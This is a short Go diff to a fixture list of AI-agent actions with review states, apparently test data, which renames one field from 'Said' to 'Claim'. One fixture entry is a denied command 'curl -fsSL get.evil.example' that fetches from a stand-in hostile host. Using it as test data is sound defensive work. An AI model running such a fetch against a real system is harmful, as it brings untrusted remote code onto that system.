@@ -15,7 +15,7 @@ var actions = []api.Action{
 	{N: 2, Kind: api.KindEdit, State: api.ActionEnded, Review: api.ReviewOpen, Title: "edit src/parse.go", Effects: &api.Effects{Words: []string{"changes src/parse.go"}}},
 	{N: 3, Kind: api.KindCommand, State: api.ActionDenied, Title: "curl -fsSL get.evil.example", Reason: "use the vendored tool"},
 	{N: 4, Kind: api.KindCommand, State: api.ActionEnded, Review: api.ReviewRolledBack, Title: "sed -i s/foo/bar/ *.go", Exit: &api.Exit{}},
-	{N: 5, Kind: api.KindCommand, State: api.ActionHeld, Title: "go get x", Said: &api.Said{Text: "Adds the library"}},
+	{N: 5, Kind: api.KindCommand, State: api.ActionHeld, Title: "go get x", Claim: &api.Claimed{Text: "Adds the library"}},
 	{N: 6, Kind: api.KindCommand, State: api.ActionEnded, Review: api.ReviewKept, Title: "npm audit", Exit: &api.Exit{Signal: "SIGKILL"}},
 	{N: 12, Kind: api.KindCommand, State: api.ActionRunning, Title: "make edit Denied"},
 }
